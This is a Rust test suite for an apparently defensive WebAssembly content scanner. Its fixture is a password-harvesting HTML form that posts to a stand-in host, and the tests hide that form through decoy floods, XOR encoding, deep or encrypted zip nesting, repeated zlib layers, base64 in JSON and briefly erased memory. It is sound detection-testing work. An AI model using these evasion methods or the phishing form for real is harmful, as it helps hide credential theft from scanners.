//! Things that are put where there is no room to look: behind much else, among much else, after much else. It
//! is found, or it is said that not all was looked at, and then it is not CLEAN.

use super::{Class, analysed, at_least, carriers::base64, class, files, not_accused};

pub(super) const PAGE: &str =
    "<html><body><form action='https://c.example.invalid/in'>Password <input name='p'></form></body></html>";
const PROSE: &str = "The beds are planted, and the water tank was delivered on Monday. ";

pub(super) fn plain(bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("\\{byte:02x}")).collect()
}

/// Hands over the same long prose many times, each a little changed, and then a text.
fn flood(times: u32, text: &str) -> String {
    let prose = PROSE.repeat(900);
    format!(
        r#"(module (import "env" "show" (func $show (param i32 i32))) (memory (export "memory") 4)
          (data (i32.const 1024) "{}") (data (i32.const 100000) "{}")
          (func (export "run") (local $i i32)
            (loop $next
              (i32.store8 (i32.const 1024) (i32.add (i32.const 65) (i32.and (local.get $i) (i32.const 7))))
              (call $show (i32.const 1024) (i32.const {}))
              (local.set $i (i32.add (local.get $i) (i32.const 1)))
              (br_if $next (i32.lt_u (local.get $i) (i32.const {times}))))
            (call $show (i32.const 100000) (i32.const {}))))"#,
        plain(prose.as_bytes()),
        plain(text.as_bytes()),
        prose.len(),
        text.len()
    )
}

#[test]
fn much_that_is_handed_over_hides_nothing_after_it() {
    at_least(
        Class::Undecided,
        &[("a page behind an encoding", flood(40, &base64(PAGE.as_bytes()))), ("a page", flood(40, PAGE))],
    );
    assert_eq!(class(&flood(40, PROSE)), Class::Clean);
}

/// Builds a page at an address, among or beyond copies of something else.
fn built(page: &str, at: u32, pages: u32, decoy: &str, decoys: u32) -> String {
    let hidden: Vec<u8> = page.bytes().map(|byte| byte ^ 0x5a).collect();
    format!(
        r#"(module (memory (export "memory") {pages})
          (data (i32.const 1024) "{}") (data (i32.const 4000) "{}\00")
          (func (export "run") (local $i i32) (local $n i32)
            (loop $decoy
              (memory.copy (i32.add (i32.const 20000) (i32.mul (local.get $n) (i32.const {step})))
                (i32.const 4000) (i32.const {step}))
              (local.set $n (i32.add (local.get $n) (i32.const 1)))
              (br_if $decoy (i32.lt_u (local.get $n) (i32.const {decoys}))))
            (loop $letter
              (i32.store8 (i32.add (i32.const {at}) (local.get $i))
                (i32.xor (i32.load8_u offset=1024 (local.get $i)) (i32.const 90)))
              (local.set $i (i32.add (local.get $i) (i32.const 1)))
              (br_if $letter (i32.lt_u (local.get $i) (i32.const {}))))))"#,
        plain(&hidden),
        plain(decoy.as_bytes()),
        page.len(),
        step = decoy.len() + 1,
    )
}

#[test]
fn much_in_memory_hides_nothing() {
    at_least(
        Class::PotentiallyUnwanted,
        &[
            ("among words that begin pages", built(PAGE, 900_000, 16, "<html>a", 5000)),
            ("far from all else", built(PAGE, 40_000_000, 700, "a", 1)),
            ("behind long beginnings of pages", {
                built(PAGE, 3_000_000, 64, &format!("<html>{}", "x".repeat(1000)), 2000)
            }),
        ],
    );
    assert_eq!(class(&built(PROSE, 900_000, 16, "<html>a", 5000)), Class::Clean);
}

/// More layers than are taken off are no way to hide.
#[test]
fn more_layers_than_are_taken_off_are_told() {
    let handing = |bytes: &[u8]| {
        format!(
            r#"(module (import "env" "show" (func $show (param i32 i32))) (memory (export "memory") 4)
              (data (i32.const 1024) "{}") (func (export "run") (call $show (i32.const 1024) (i32.const {}))))"#,
            plain(bytes),
            bytes.len()
        )
    };
    let mut text = PAGE.as_bytes().to_vec();
    for _ in 0..30 {
        text = packed(&text);
    }
    let verdict = analysed(&handing(&text)).verdict;
    assert_eq!(verdict.class, Class::Undecided, "{:?}", verdict.reasons);
    assert!(verdict.reasons[0].text.contains("not looked through"), "{:?}", verdict.reasons);
    // A page far behind the beginning of what was packed is seen.
    let far = PROSE.repeat(3000) + PAGE;
    let modules = [("far in what is packed", handing(&packed(far.as_bytes())))];
    at_least(Class::PotentiallyUnwanted, &modules);
}

/// A program that writes a file.
fn writing(bytes: &[u8]) -> String {
    let pages = bytes.len() / 65536 + 2;
    files(&format!(
        r#"(data (i32.const 4096) "{}")
           (func (export "_start") (drop (memory.grow (i32.const {pages})))
             (call $write (call $temporary) (i32.const 4096) (i32.const {})))"#,
        plain(bytes),
        bytes.len()
    ))
    .replace("(memory (export \"memory\") 2)", &format!("(memory (export \"memory\") {pages})"))
}

/// A zip.
fn zipped(members: &[&[u8]], is_secret: bool) -> Vec<u8> {
    use std::io::{Cursor, Write as _};
    let mut out = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    for (place, member) in members.iter().enumerate() {
        let sealed = options.with_aes_encryption(zip::AesMode::Aes256, "secret");
        out.start_file(place.to_string(), if is_secret { sealed } else { options }).unwrap();
        out.write_all(member).unwrap();
    }
    out.finish().unwrap().into_inner()
}

const PROGRAM: &[u8] = b"\x7fELF\x02\x01\x01\0 and what it does then, which is nothing of use to anybody.";

#[test]
fn archives_hide_nothing_in_a_file() {
    let inner = zipped(&[PROGRAM], false);
    let deep = (0..5).fold(inner.clone(), |bytes, _| zipped(&[b"words", &bytes], false));
    at_least(Class::PotentiallyUnwanted, &[("archives within archives", writing(&deep))]);
    let much = vec![b'a'; 22 << 20];
    let behind = zipped(&[&zipped(&[&much], false), &zipped(&[&much, &much], false), &inner], false);
    let deeper = (0..12).fold(inner, |bytes, _| zipped(&[&bytes], false));
    let modules = [
        ("behind more than is unpacked", writing(&behind)),
        ("deeper than is looked", writing(&deeper)),
        ("behind a key", writing(&zipped(&[PROGRAM], true))),
        ("in a format that nobody here can undo", writing(b"BZh91AY&SY and so on, until it ends somewhere")),
    ];
    at_least(Class::Undecided, &modules);
    not_accused(&modules);
    for text in [zipped(&[PROSE.as_bytes()], false), zipped(&[&zipped(&[PROSE.as_bytes()], false)], false)] {
        let verdict = analysed(&writing(&text)).verdict;
        assert_eq!(verdict.class, Class::Clean, "{:?}", verdict.reasons);
    }
}

/// Hands over bytes, after so many calls that hand over others.
fn handing(bytes: &[u8], times: u32, others: &[u8]) -> String {
    format!(
        r#"(module (import "env" "show" (func $show (param i32 i32))) (memory (export "memory") 8)
          (data (i32.const 1024) "{}") (data (i32.const 200000) "{}")
          (func (export "run") (local $i i32)
            (loop $next
              (i32.store8 (i32.const 200060) (local.get $i))
              (call $show (i32.const 200000) (i32.const {}))
              (local.set $i (i32.add (local.get $i) (i32.const 1)))
              (br_if $next (i32.lt_u (local.get $i) (i32.const {times}))))
            (call $show (i32.const 1024) (i32.const {}))))"#,
        plain(bytes),
        plain(others),
        others.len(),
        bytes.len()
    )
}

#[test]
fn archives_and_floods_hide_nothing_that_is_handed_over() {
    let text = PROSE.repeat(100);
    let archive = zipped(&[text.as_bytes(), &zipped(&[PROGRAM], false)], false);
    let page = zipped(&[text.as_bytes(), PAGE.as_bytes()], false);
    let flood = PROSE.repeat(900);
    at_least(
        Class::PotentiallyUnwanted,
        &[
            ("a program in an archive", handing(&archive, 1, b"words")),
            ("a page in an archive", handing(&page, 1, b"words")),
            ("a program after a flood", handing(PROGRAM, 60, flood.as_bytes())),
        ],
    );
    let secret = zipped(&[PROGRAM], true);
    at_least(Class::Undecided, &[("an archive behind a key", handing(&secret, 1, b"words"))]);
    let verdict = analysed(&handing(&zipped(&[text.as_bytes()], false), 1, b"words")).verdict;
    assert_eq!(verdict.class, Class::Clean, "{:?}", verdict.reasons);
}

/// A page in an encoding, within a text that is in none.
#[test]
fn prose_around_an_encoding_hides_nothing() {
    let hidden = base64(PAGE.as_bytes());
    let far = format!("{} {hidden} {PROSE}", PROSE.repeat(2000));
    let json = |text: &str| format!("{{\"title\": \"{PROSE}\", \"body\": \"{text}\", \"more\": 3}}");
    let escaped = PAGE.replace('<', "\\u003c");
    at_least(
        Class::PotentiallyUnwanted,
        &[
            ("in JSON", handing(json(&hidden).as_bytes(), 1, b"words")),
            ("escaped in JSON", handing(json(&escaped).as_bytes(), 1, b"words")),
            ("behind a word", handing(format!("{PROSE} data{hidden}").as_bytes(), 1, b"words")),
            ("far behind prose", handing(far.as_bytes(), 1, b"words")),
        ],
    );
    let prose = base64(
        b"Rain fell on nine of ten days in the week before, so nobody had to carry water to the pots.",
    );
    for text in [json(&prose), far.replace(&hidden, &prose)] {
        let verdict = analysed(&handing(text.as_bytes(), 1, b"words")).verdict;
        assert_eq!(verdict.class, Class::Clean, "{:?}", verdict.reasons);
    }
}

/// A page that lies in memory for as long as a call takes, whose host knows where.
#[test]
fn what_is_erased_before_the_end_was_there() {
    let flashing = |text: &str| {
        let hidden: Vec<u8> = text.bytes().map(|byte| byte ^ 0x5a).collect();
        format!(
            r#"(module (import "page" "ready" (func $ready (param i32))) (memory (export "memory") 1)
              (data (i32.const 1024) "{}")
              (func $flip (local $i i32)
                (loop $letter
                  (i32.store8 offset=4096 (local.get $i)
                    (i32.xor (i32.load8_u offset=4096 (local.get $i)) (i32.load8_u offset=1024 (local.get $i))))
                  (i32.store8 offset=4096 (local.get $i)
                    (i32.xor (i32.load8_u offset=4096 (local.get $i)) (i32.const 90)))
                  (local.set $i (i32.add (local.get $i) (i32.const 1)))
                  (br_if $letter (i32.lt_u (local.get $i) (i32.const {})))))
              (func (export "run") (call $flip) (call $ready (i32.const 7)) (call $flip)))"#,
            plain(&hidden),
            text.len()
        )
    };
    at_least(Class::PotentiallyUnwanted, &[("a page", flashing(PAGE))]);
    assert_eq!(class(&flashing(PROSE)), Class::Clean);
}

/// zlib.
fn packed(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(bytes).unwrap();
    packer.finish().unwrap()
}

/// A memory of gigabytes hides nothing that lies in it, and one more hides nothing of the program.
#[test]
fn large_memories_hide_nothing() {
    let near = built(PAGE, 500_000, 20, "a", 1);
    let with = |memory: &str| {
        let text = near.replacen("(memory (export", &format!("{memory} (memory (export"), 1);
        text.replace("(data (i32", "(data (memory 1) (i32")
            .replace("i32.store8 ", "i32.store8 1 ")
            .replace("i32.load8_u ", "i32.load8_u 1 ")
            .replace("memory.copy ", "memory.copy 1 1 ")
    };
    let least = class(&near);
    assert!(least > Class::Undecided);
    at_least(
        least,
        &[
            ("far", built(PAGE, 0x9000_0000, 65_536, "a", 1)),
            ("at two gigabytes", built(PAGE, 0x7fff_fff0, 65_536, "a", 1)),
            ("another memory", near.replacen("(func ", "(memory 8192) (func ", 1)),
            ("another large memory", near.replacen("(func ", "(memory 65536) (func ", 1)),
            ("another memory of 64 bits", near.replacen("(func ", "(memory i64 0x1000000) (func ", 1)),
            ("another memory before", with("(memory 65536)")),
        ],
    );
}
